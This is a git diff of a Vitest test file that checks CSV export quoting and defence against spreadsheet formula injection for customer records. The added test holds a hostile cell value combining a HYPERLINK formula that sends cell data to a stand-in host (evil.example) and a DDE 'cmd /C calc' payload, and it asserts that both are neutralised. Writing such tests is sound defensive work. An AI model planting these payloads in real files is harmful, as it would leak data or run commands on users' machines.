@@ -1,3 +1,4 @@
+import Papa from "papaparse"
 import { describe, expect, it } from "vitest"
 
 import type { Customer } from "../customers/customer.schema"
@@ -33,7 +34,7 @@ function importCustomers(text: string) {
 describe("csv writing", () => {
   it("quotes values with separators, quotes, line breaks or edge spaces, RFC 4180 style", () => {
     expect(csvField("Dupont, Fils", ",")).toBe('"Dupont, Fils"')
-    expect(csvField("Dupont, Fils", ";")).toBe("Dupont, Fils")
+    expect(csvField("Dupont, Fils", ";")).toBe('"Dupont, Fils"')
     expect(csvField('dit "urgent"', ",")).toBe('"dit ""urgent"""')
     expect(csvField("3 quai\nBât. B", ",")).toBe('"3 quai\nBât. B"')
     expect(csvField(" x", ",")).toBe('" x"')
@@ -45,6 +46,19 @@ describe("csv writing", () => {
     expect(csvField("@SUM(A1)", ",")).toBe("'@SUM(A1)")
     expect(csvField("+33142685300", ",")).toBe("+33142685300")
     expect(csvField("-12.50", ",")).toBe("-12.50")
+  })
+
+  it("keeps a formula hidden after another separator in one cell, for a spreadsheet that splits the file on ; or on ,", () => {
+    // French Excel splits a double-clicked .csv on ";", English Excel on ",": a cell must not open on either.
+    const company = `Bistrot;=HYPERLINK("http://evil.example/?c="&B2,"Ouvrir"),=1+cmd|' /C calc'!A0`
+    for (const written of [",", ";"] as const) {
+      const file = exportCustomersCsv([{ ...toStored(generateCustomers({ count: 1, seed: 3 })[0]!), company, contacts: [] }], { delimiter: written })
+      for (const read of [",", ";"]) {
+        const cells = Papa.parse<string[]>(file.replace(/^\uFEFF/, ""), { delimiter: read }).data.flat()
+        expect(cells.filter((c) => /^[=+@]/.test(c) || /^-\D/.test(c)), `written with "${written}", read on "${read}"`).toEqual([])
+      }
+      expect(importCustomers(file).customers[0]!.customer.company).toBe(company)
+    }
   })
 
   it("starts with a BOM and ends lines with CRLF", () => {
